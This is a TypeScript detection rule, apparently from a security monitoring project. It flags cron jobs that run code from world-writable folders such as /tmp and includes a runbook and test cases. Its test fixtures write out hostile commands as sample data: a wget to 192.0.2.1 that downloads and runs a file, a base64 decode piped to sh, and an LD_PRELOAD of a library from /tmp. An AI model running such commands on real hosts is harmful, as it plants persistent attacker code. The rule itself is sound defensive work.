import { isParted } from '../../src/detect/reading/command.ts'
import { cronCommand } from '../../src/detect/reading/cron.ts'
import { loadedFiles } from '../../src/detect/reading/loads.ts'
import { isWorldWritablePlace, mayNameWorldWritablePlace } from '../../src/detect/reading/paths.ts'
import { rule, table } from '../../src/detect/rule.ts'

export default rule({
  id: 'posix.cron-loads-from-tmp',
  title: 'Cron job loads code from a folder anyone can write to',
  severity: 'high',
  on: table('crontab'),
  attack: ['T1053.003'],
  detect: ({ columns }) => fromEveryonesFolder(columns).length > 0,
  alertTitle: ({ host, columns }) =>
    `Cron on ${host} loads ${fromEveryonesFolder(columns)[0] ?? 'code'}: ${columns.command}`,
  context: ({ columns }) => ({
    command: columns.command,
    crontab: columns.path,
    loads: fromEveryonesFolder(columns).slice(0, 20),
  }),
  means:
    'Anyone on the host may write to this folder, so anyone can change what the job runs, with the rights of whoever owns the job. More often the one who wrote the job put the code there too: nobody cleans up a job, and after a start of the host it is still there.',
  check: 'SELECT event, minute, hour, day_of_month, month, day_of_week, command, path FROM crontab;',
  benign:
    'A script that somebody tried out in /tmp and forgot, an installer that leaves a job for the time of its work. A job that only writes, locks or cleans up there is none of these.',
  runbook:
    'Read the job (crontab -l -u USER, or the file named as crontab) and the file that it loads, before it is gone: copy it with its times and owner. Find out who wrote both (shell_history, last, file times). If nobody owns up, take the job out, isolate the host and look for the way in.',
  references: ['https://attack.mitre.org/techniques/T1053/003/'],
  replaces: ['Osquery.SuspiciousCron'],
  tests: [
    {
      name: 'runs a program',
      match: true,
      columns: { command: '/tmp/.x/job >/dev/null 2>&1', path: '/var/spool/cron/crontabs/www-data' },
      title: 'Cron on test-host loads /tmp/.x/job: /tmp/.x/job >/dev/null 2>&1',
      dedup: 'test-host-id',
      severity: 'high',
      context: {
        command: '/tmp/.x/job >/dev/null 2>&1',
        crontab: '/var/spool/cron/crontabs/www-data',
        loads: ['/tmp/.x/job'],
      },
    },
    { name: 'hands a script to a shell', match: true, columns: { command: 'bash /var/tmp/a.sh' } },
    { name: 'out of memory', match: true, columns: { command: 'python3 /dev/shm/a' } },
    {
      name: 'the user stands before the command in system crontabs',
      match: true,
      columns: { command: 'root   /tmp/job', path: '/etc/crontab' },
    },
    {
      name: 'the user stands before the command in cron.d',
      match: true,
      columns: { command: 'www-data sh /tmp/job', path: '/etc/cron.d/job' },
    },
    { name: 'root before the command, crontab not told', match: true, columns: { command: 'root /tmp/job' } },
    {
      name: 'fetches, then runs',
      match: true,
      columns: { command: 'wget -qO /tmp/l http://192.0.2.1/l; chmod 700 /tmp/l; /tmp/l >> /tmp/o' },
    },
    { name: 'through quotes', match: true, columns: { command: `sh -c "'/tmp/a b' now"` } },
    { name: 'a quote that never closes', match: true, columns: { command: 'sh "/tmp/a' } },
    { name: 'by a roundabout path', match: true, columns: { command: '/usr/../tmp/./a' } },
    { name: 'the name macOS has for it', match: true, columns: { command: '/private/tmp/a' } },
    { name: 'a library', match: true, columns: { command: 'LD_PRELOAD=/tmp/a.so /usr/bin/job' } },
    { name: 'through a pipe', match: true, columns: { command: 'base64 -d /tmp/a | sh' } },
    {
      name: 'of a snapshot-free fleet with another query name',
      match: true,
      query: 'cron jobs',
      columns: { command: '/tmp/a' },
    },
    { name: 'only writes a log there', match: false, columns: { command: '/usr/bin/job > /tmp/x 2>&1' } },
    { name: 'cleans up there', match: false, columns: { command: 'find /tmp -mtime +7 -delete' } },
    { name: 'a lock there', match: false, columns: { command: 'flock -n /tmp/job.lock /usr/bin/job' } },
    { name: 'tmp within another path', match: false, columns: { command: '/srv/app/tmp/job' } },
    { name: 'a longer name', match: false, columns: { command: '/tmpfiles/job' } },
    {
      name: 'the job is gone',
      match: false,
      action: 'removed',
      columns: { command: '/tmp/a' },
    },
    {
      name: 'the daily jobs of the distribution',
      match: false,
      columns: { command: 'root cd / && run-parts --report /etc/cron.hourly', path: '/etc/crontab' },
    },
    { name: 'no command', match: false, columns: { path: '/etc/crontab' } },
  ],
})

function fromEveryonesFolder(row: { readonly command: string; readonly path: string }): readonly string[] {
  const line = cronCommand(row)
  if (!mayNameWorldWritablePlace(line) && !isParted(line)) return []
  return loadedFiles(line).filter(isWorldWritablePlace)
}
